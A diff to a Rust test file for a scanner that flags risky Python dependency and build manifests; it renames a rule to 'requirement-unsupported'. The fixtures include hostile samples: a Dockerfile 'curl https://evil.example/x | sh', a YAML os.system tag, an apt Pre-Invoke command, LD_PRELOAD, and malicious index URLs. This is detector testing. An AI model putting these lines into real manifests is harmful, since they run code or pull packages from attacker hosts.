@@ -49,7 +49,7 @@ fn sources() -> Vec<Item> {
             "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.1.0+cu118\n",
         )
         .fires(&["requirement-source"])
-        .quiet(&["requirement-odd"]),
+        .quiet(&["requirement-unsupported"]),
         item("index-home", Safe, NAME, "--index-url https://pypi.org/simple/\ntorch==2.3.0\n")
             .quiet(&["requirement-source"]),
         item(
@@ -81,12 +81,12 @@ fn lookalikes() -> Vec<Item> {
         item("neighbours", Safe, NAME, "ctransformers==0.2.27\ntensorboardX\npsycopg2-binary\nmarkdown2\npyaml\nscapy\nwebsocket-client\nx-transformers\ntorchinfo\npolars\njaxlib\nsklearn\n")
             .quiet(&["requirement-lookalike"]),
         item("spellings", Safe, NAME, "Huggingface_Hub\nscikit_learn\nPyYAML\nopencv.python\nSentence__Transformers\n")
-            .quiet(&["requirement-lookalike", "requirement-odd"]),
+            .quiet(&["requirement-lookalike", "requirement-unsupported"]),
     ]
 }
 
 fn odd() -> Vec<Item> {
-    let bad = |name: &str, text: &str| item(name, Suspect, NAME, text).fires(&["requirement-odd"]);
+    let bad = |name: &str, text: &str| item(name, Suspect, NAME, text).fires(&["requirement-unsupported"]);
     vec![
         bad("install-option", "torch==2.3.0 --install-option=\"--prefix=/tmp\"\n"),
         bad("config-settings", "torch==2.3.0 --config-settings=\"--build-option=x\"\n"),
@@ -97,7 +97,8 @@ fn odd() -> Vec<Item> {
         bad("condition", "torch==2.3.0; __import__('os')\n"),
         bad("encoding", "# -*- coding: utf-7 -*-\ntorch==2.3.0\n"),
         bad("not-a-name", "\u{1f600}==1.0\n"),
-        item("encoding-plain", Safe, NAME, "# -*- coding: utf-8 -*-\ntorch==2.3.0\n").quiet(&["requirement-odd"]),
+        item("encoding-plain", Safe, NAME, "# -*- coding: utf-8 -*-\ntorch==2.3.0\n")
+            .quiet(&["requirement-unsupported"]),
         Item::new("requirement-not-text", Suspect, NAME, b"torch\xff\xfe\n".to_vec()),
     ]
 }
@@ -108,7 +109,7 @@ fn builds() -> Vec<Item> {
         [project.urls]\nHomepage = \"https://github.com/x/x\"\n\n[tool.ruff]\nline-length = 100\n";
     let toml = |name: &str, expect, more: &str| item(name, expect, "pyproject.toml", &format!("{project}{more}"));
     vec![
-        toml("project", Safe, "").quiet(&["requirement-source", "requirement-odd"]),
+        toml("project", Safe, "").quiet(&["requirement-source", "requirement-unsupported"]),
         toml("project-index", Suspect, "[[tool.uv.index]]\nname = \"x\"\nurl = \"https://evil.example/simple\"\n")
             .fires(&["requirement-source"]),
         toml("project-poetry-source", Suspect, "[[tool.poetry.source]]\nname = \"x\"\nurl = \"https://evil.example/simple\"\n")
@@ -117,14 +118,14 @@ fn builds() -> Vec<Item> {
             .fires(&["requirement-source"]),
         toml("project-poetry", Safe, "[tool.poetry.dependencies]\npython = \"^3.10\"\ntorch = \"^2.0\"\n[tool.poetry.urls]\nurl = \"https://x.example\"\n")
             .quiet(&["requirement-source"]),
-        toml("project-poetry-build", Suspect, "[tool.poetry.build]\nscript = \"build.py\"\n").fires(&["requirement-odd"]),
-        toml("project-hatch-hook", Suspect, "[tool.hatch.build.hooks.custom]\npath = \"hook.py\"\n").fires(&["requirement-odd"]),
+        toml("project-poetry-build", Suspect, "[tool.poetry.build]\nscript = \"build.py\"\n").fires(&["requirement-unsupported"]),
+        toml("project-hatch-hook", Suspect, "[tool.hatch.build.hooks.custom]\npath = \"hook.py\"\n").fires(&["requirement-unsupported"]),
         item("backend-own", Suspect, "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"evil\"\nbackend-path = [\".\"]\n")
-            .fires(&["requirement-odd"]),
+            .fires(&["requirement-unsupported"]),
         item("project-url", Suspect, "pyproject.toml", "[project]\nname = \"x\"\ndependencies = [\"x @ git+https://evil.example/x\"]\n")
             .fires(&["requirement-source"]),
         item("project-lookalike", Suspect, "pyproject.toml", "[dependency-groups]\ndev = [\"torcch\"]\n").fires(&["requirement-lookalike"]),
-        item("project-broken", Suspect, "pyproject.toml", "[project\nname = \n").fires(&["requirement-odd"]),
+        item("project-broken", Suspect, "pyproject.toml", "[project\nname = \n").fires(&["requirement-unsupported"]),
         item("pipfile", Safe, "Pipfile", "[[source]]\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\nname = \"pypi\"\n\n[packages]\ntorch = \"*\"\n")
             .quiet(&["requirement-source"]),
         item("pipfile-source", Suspect, "Pipfile", "[[source]]\nurl = \"https://evil.example/simple\"\nname = \"x\"\n\n[packages]\ntorch = \"*\"\n")
@@ -133,9 +134,9 @@ fn builds() -> Vec<Item> {
             .fires(&["requirement-source"]),
         item("setup-lookalike", Suspect, "setup.cfg", "[options]\ninstall_requires =\n    torhc>=2\n").fires(&["requirement-lookalike"]),
         item("setup", Safe, "setup.cfg", "[metadata]\nname = x\nurl = https://x.example\n\n[options]\npackages = find:\ninstall_requires =\n    torch>=2\n    numpy\n\n[flake8]\nmax-line-length = 120\n")
-            .quiet(&["requirement-source", "requirement-odd"]),
+            .quiet(&["requirement-source", "requirement-unsupported"]),
         item("docker", Suspect, "Dockerfile", "FROM python:3.11\nWORKDIR /app\nCOPY . .\nRUN curl https://evil.example/x | \\\n    sh\n")
-            .fires(&["requirement-odd", "requirement-source"]),
+            .fires(&["requirement-unsupported", "requirement-source"]),
         item("docker-add", Suspect, "Dockerfile.gpu", "FROM scratch\nADD https://evil.example/x /x\n").fires(&["requirement-source"]),
     ]
 }
@@ -148,33 +149,33 @@ fn environments() -> Vec<Item> {
             Safe,
             "name: ldm\nchannels:\n  - pytorch\n  - conda-forge\n  - defaults\ndependencies:\n  - python=3.8.5\n  - pip=20.3\n  - cudatoolkit=11.3\n  - pytorch::pytorch=1.11.0\n  - numpy>=1.19  # any\n  - pip:\n    - albumentations==0.4.3\n    - \"transformers>=4.3\"\n  - scipy\nprefix: /home/me/ldm\n",
         )
-        .quiet(&["requirement-source", "requirement-odd", "requirement-lookalike"]),
-        conda("conda-flow", Safe, "name: x\nchannels: [conda-forge, defaults]\ndependencies:\n- python=3.11\n- numpy\n").quiet(&["requirement-odd"]),
+        .quiet(&["requirement-source", "requirement-unsupported", "requirement-lookalike"]),
+        conda("conda-flow", Safe, "name: x\nchannels: [conda-forge, defaults]\ndependencies:\n- python=3.11\n- numpy\n").quiet(&["requirement-unsupported"]),
         conda("conda-channel", Suspect, "channels:\n  - https://evil.example/channel\ndependencies:\n  - numpy\n").fires(&["requirement-source"]),
         conda("conda-channel-unknown", Suspect, "channels:\n  - evil\ndependencies:\n  - evil2::numpy\n").fires(&["requirement-source"]),
         conda("conda-pip-option", Suspect, "dependencies:\n  - pip:\n    - --extra-index-url https://evil.example/simple\n    - torch\n")
             .fires(&["requirement-source"]),
         conda("conda-pip-git", Suspect, "dependencies:\n  - pip:\n    - -e git+https://evil.example/x.git#egg=x\n").fires(&["requirement-source"]),
-        conda("conda-tag", Suspect, "dependencies:\n  - !!python/object/apply:os.system [id]\n").fires(&["requirement-odd"]),
+        conda("conda-tag", Suspect, "dependencies:\n  - !!python/object/apply:os.system [id]\n").fires(&["requirement-unsupported"]),
         conda("conda-flow-pip", Suspect, "dependencies: [python=3.11, {pip: [torch, '--index-url https://evil.example/simple']}]\n")
             .fires(&["requirement-source"]),
         conda("conda-alias", Suspect, "name: &c https://evil.example/channel\nchannels:\n- *c\n").fires(&["requirement-source"]),
         conda("conda-escaped", Suspect, "\"\\x63hannels\":\n- https://evil.example/channel\n").fires(&["requirement-source"]),
-        conda("conda-nested-key", Suspect, "dependencies:\n- python=3.11\n- conda:\n  - numpy\n").fires(&["requirement-odd"]),
-        conda("conda-merged", Suspect, "x: &x {channels: [evil]}\n<<: *x\n").fires(&["requirement-odd"]),
+        conda("conda-nested-key", Suspect, "dependencies:\n- python=3.11\n- conda:\n  - numpy\n").fires(&["requirement-unsupported"]),
+        conda("conda-merged", Suspect, "x: &x {channels: [evil]}\n<<: *x\n").fires(&["requirement-unsupported"]),
         conda("conda-second", Suspect, "channels: [defaults]\n---\nchannels: [https://evil.example/c]\n").fires(&["requirement-source"]),
         conda("conda-quoted", Safe, "'name': x\n\"channels\":\n- \"conda-forge\"\n'dependencies':\n  - 'python=3.11' # new\n  - pip:\n      - torch==2.3.0\n")
-            .quiet(&["requirement-source", "requirement-odd"]),
-        conda("conda-variables", Suspect, "dependencies:\n  - python=3.10\nvariables:\n  LD_PRELOAD: /tmp/x.so\n").fires(&["requirement-odd"]),
-        item("apt", Safe, "packages.txt", "# for audio\nffmpeg\nlibsndfile1 libgl1-mesa-glx\ng++\n").quiet(&["requirement-odd"]),
-        item("apt-option", Suspect, "packages.txt", "ffmpeg\n-oAPT::Update::Pre-Invoke::=id\n").fires(&["requirement-odd"]),
-        item("apt-file", Suspect, "packages.txt", "./evil.deb\n").fires(&["requirement-odd"]),
+            .quiet(&["requirement-source", "requirement-unsupported"]),
+        conda("conda-variables", Suspect, "dependencies:\n  - python=3.10\nvariables:\n  LD_PRELOAD: /tmp/x.so\n").fires(&["requirement-unsupported"]),
+        item("apt", Safe, "packages.txt", "# for audio\nffmpeg\nlibsndfile1 libgl1-mesa-glx\ng++\n").quiet(&["requirement-unsupported"]),
+        item("apt-option", Suspect, "packages.txt", "ffmpeg\n-oAPT::Update::Pre-Invoke::=id\n").fires(&["requirement-unsupported"]),
+        item("apt-file", Suspect, "packages.txt", "./evil.deb\n").fires(&["requirement-unsupported"]),
     ]
 }
 
 fn honest() -> Vec<Item> {
     let good = |name: &str, text: &str| {
-        item(name, Safe, NAME, text).quiet(&["requirement-source", "requirement-odd", "requirement-lookalike"])
+        item(name, Safe, NAME, text).quiet(&["requirement-source", "requirement-unsupported", "requirement-lookalike"])
     };
     vec![
         good("space", "gradio\ntransformers\ntorch\naccelerate\nspaces\nsentencepiece\n"),
@@ -190,9 +191,9 @@ fn honest() -> Vec<Item> {
         good("speech", "librosa\nsoundfile\nfaster-whisper\nTTS\npydub\njiwer\nonnxruntime-gpu\nmatcha-tts\nkaldiio\nvocos\n"),
         item("git-library", Review, NAME, "git+https://github.com/huggingface/transformers.git\naccelerate\n")
             .fires(&["requirement-source"])
-            .quiet(&["requirement-odd"]),
+            .quiet(&["requirement-unsupported"]),
         item("docker-space", Review, "Dockerfile", "FROM python:3.9\n\nWORKDIR /code\n\nCOPY ./requirements.txt /code/requirements.txt\n\nRUN pip install --no-cache-dir -r /code/requirements.txt\n\nCOPY . .\n\nCMD [\"python\", \"app.py\"]\n")
-            .fires(&["requirement-odd"])
+            .fires(&["requirement-unsupported"])
             .quiet(&["requirement-lookalike"]),
     ]
 }
